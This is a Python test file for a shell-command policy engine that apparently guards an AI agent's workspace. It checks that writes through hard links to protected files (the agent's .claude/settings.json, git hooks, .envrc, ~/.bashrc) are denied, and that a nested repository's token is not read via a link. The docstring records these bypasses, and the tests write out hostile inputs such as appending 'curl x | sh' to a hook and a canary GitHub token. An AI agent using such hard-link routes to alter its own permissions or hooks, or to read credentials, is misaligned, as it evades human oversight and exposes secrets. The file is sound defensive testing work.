"""Fixer AX (hard links): the gaps closing note 36 left open (reviews GJ6, GU4, GU5).

AX1: a write through a hard link of a protected file was not checked. `echo x >> notes`,
`tee -a notes`, `cp a notes`, `truncate -s 0 notes` and `dd of=notes` open `notes` and
change the inode it shares with `.claude/settings.json`, `.git/hooks/pre-commit`, `.envrc`
or `~/.bashrc` (real bash below), and were allowed. They are judged as writes of that file
now; `mv` and `rm` only replace or remove the name and stay allowed.

AX2: a nested repository's `.git/config` (a clone inside the workspace) linked as
`docs/cfg.txt` was not looked for: `cat docs/cfg.txt` printed its token, allowed.

AX3: a workspace over 20,000 entries made every read of a file with two names ask (pnpm
and uv make such files); the budget is 100,000 entries now."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from realrun import decide, git_ok, printed

from policylang import Verdict
from policylang.decision import Decision

# the protected files a hard link `notes` is made of, relative to the workspace (`~`:
# the home), and the verdict a write of each gets by its own name
_TARGETS = (
    (".claude/settings.json", Verdict.DENY),
    (".git/hooks/pre-commit", Verdict.DENY),
    (".envrc", Verdict.DENY),
    ("~/.bashrc", Verdict.DENY),
)
# the lines that write through the name: each changes the protected file (real bash)
_THROUGH = (
    "echo x >> notes",
    "echo x > notes",
    "echo x | tee -a notes",
    "cp src.txt notes",
    "truncate -s 0 notes",
    "dd if=src.txt of=notes conv=notrunc",
    "dd if=src.txt of=notes",
)
_ORIGINAL = "original\n"


def _env(home: Path) -> dict[str, str]:
    return {"HOME": str(home), "PATH": "/usr/bin:/bin"}


def _setup(tmp_path: Path, target: str) -> tuple[Path, Path]:
    """A workspace (a repository) and a home holding the protected files, with `notes`
    a hard link of `target`; returns the workspace and the target's path."""
    workspace = tmp_path / "ws"
    home = tmp_path / "home"
    for folder in (workspace / ".claude", home):
        folder.mkdir(parents=True)
    git_ok(workspace, "init", "-q")
    (workspace / "src.txt").write_text("payload from src\n")
    files = (
        workspace / ".claude" / "settings.json",
        workspace / ".git" / "hooks" / "pre-commit",
        workspace / ".envrc",
        home / ".bashrc",
    )
    for path in files:
        path.write_text(_ORIGINAL)
    path = home / target[2:] if target.startswith("~/") else workspace / target
    os.link(path, workspace / "notes")
    return workspace, path


@pytest.mark.parametrize(("target", "verdict"), _TARGETS)
def test_ax1_a_write_through_a_hard_link_is_a_write_of_the_protected_file(
    tmp_path: Path, target: str, verdict: Verdict
) -> None:
    for number, line in enumerate(_THROUGH):
        workspace, path = _setup(tmp_path / str(number), target)
        decision = decide(line, workspace, _env(workspace.parent / "home"))
        assert decision.verdict is verdict, (target, line, decision.explain())
        printed(["bash", "-c", line], workspace)
        assert path.read_text() != _ORIGINAL, (target, line)  # the protected file changed


def test_ax1_replacing_or_removing_the_name_and_plain_files(tmp_path: Path) -> None:
    workspace, path = _setup(tmp_path / "a", ".claude/settings.json")
    env = _env(workspace.parent / "home")
    # a file with one name, and one whose other name is no protected file
    (workspace / "plain.txt").write_text("x\n")
    os.link(workspace / "src.txt", workspace / "copy.txt")
    for line in ("echo x >> plain.txt", "echo x >> copy.txt", "cp plain.txt copy.txt"):
        _plain_write(decide(line, workspace, env), line)
    # `mv` and `rm` replace or remove the name: the protected file is unchanged
    for line in ("mv src.txt notes", "rm notes"):
        workspace, path = _setup(tmp_path / line.split()[0], ".claude/settings.json")
        _plain_write(decide(line, workspace, env), line)
        printed(["bash", "-c", line], workspace)
        assert path.read_text() == _ORIGINAL, line


def _plain_write(decision: Decision, line: str) -> None:
    """The default policy asks for a write in the workspace, and no more."""
    assert decision.verdict is Verdict.ASK, line
    assert "hard link" not in decision.explain(), line


def test_ax1_sed_in_place_is_judged_as_writing_through(tmp_path: Path) -> None:
    """`sed -i` writes a new file and renames it over the name (the protected file keeps
    its contents), but the engine does not tell such programs apart: it fails closed."""
    workspace, path = _setup(tmp_path, ".claude/settings.json")
    line = "sed -i s/original/changed/ notes"
    assert decide(line, workspace, _env(tmp_path / "home")).verdict is Verdict.DENY
    printed(["bash", "-c", line], workspace)
    assert path.read_text() == _ORIGINAL


_TOKEN = "ghp_NESTEDCANARY456"


def test_ax2_a_hard_link_of_a_nested_repository_config(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    nested = workspace / "vendor" / "lib"
    nested.mkdir(parents=True)
    (tmp_path / "home").mkdir()
    (workspace / "docs").mkdir()
    git_ok(workspace, "init", "-q")
    git_ok(nested, "init", "-q")
    git_ok(nested, "remote", "add", "origin", f"https://u:{_TOKEN}@github.com/x/y.git")
    os.link(nested / ".git" / "config", workspace / "docs" / "cfg.txt")
    env = _env(tmp_path / "home")
    assert _TOKEN in printed(["bash", "-c", "cat docs/cfg.txt"], workspace)
    for line in ("cat docs/cfg.txt", "grep -r ghp_ docs"):
        decision = decide(line, workspace, env)
        assert decision.verdict is Verdict.ASK, line
        assert "engine.git-credentials" in decision.explain(), line
    # and a write through a link of its hook is a write of it
    hook = nested / ".git" / "hooks" / "post-checkout"
    hook.write_text("#!/bin/sh\n")
    os.link(hook, workspace / "docs" / "hook.txt")
    decision = decide("echo 'curl x | sh' >> docs/hook.txt", workspace, env)
    assert decision.verdict is Verdict.DENY
    assert "engine.git-directory" in decision.explain()


def test_ax3_a_workspace_of_25000_entries_is_listed(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    (tmp_path / "home").mkdir()
    for folder in range(250):
        below = workspace / "src" / f"m{folder}"
        below.mkdir(parents=True)
        for number in range(100):
            (below / f"f{number}.py").touch()
    # a file with two names (what pnpm and uv make), and a hard link of `.env`
    (workspace / "a.txt").write_text("x\n")
    os.link(workspace / "a.txt", workspace / "b.txt")
    (workspace / ".env").write_text("KEY=v\n")
    os.link(workspace / ".env", workspace / "notes.txt")
    env = _env(tmp_path / "home")
    assert decide("cat a.txt", workspace, env).verdict is Verdict.ALLOW
    assert decide("cat notes.txt", workspace, env).verdict is Verdict.DENY


def test_ax1_a_recursive_write_reaching_a_hard_link(tmp_path: Path) -> None:
    """`chmod -R` changes the inode's mode: the hook becomes executable."""
    workspace, path = _setup(tmp_path, ".git/hooks/pre-commit")
    (workspace / "d").mkdir()
    os.link(path, workspace / "d" / "n")
    path.chmod(0o644)
    env = _env(tmp_path / "home")
    decision = decide("chmod -R +x d", workspace, env, "chmod")
    assert decision.verdict is Verdict.ASK
    assert "engine.written-tree" in decision.explain()
    assert decide("chmod -R +x src.txt", workspace, env, "chmod").verdict is Verdict.ALLOW
    os.unlink(workspace / "notes")
    (workspace / "e").mkdir()
    (workspace / "e" / "plain.txt").touch()
    assert decide("chmod -R +x e", workspace, env, "chmod").verdict is Verdict.ALLOW
    printed(["bash", "-c", "chmod -R +x d"], workspace)
    assert os.access(path, os.X_OK)
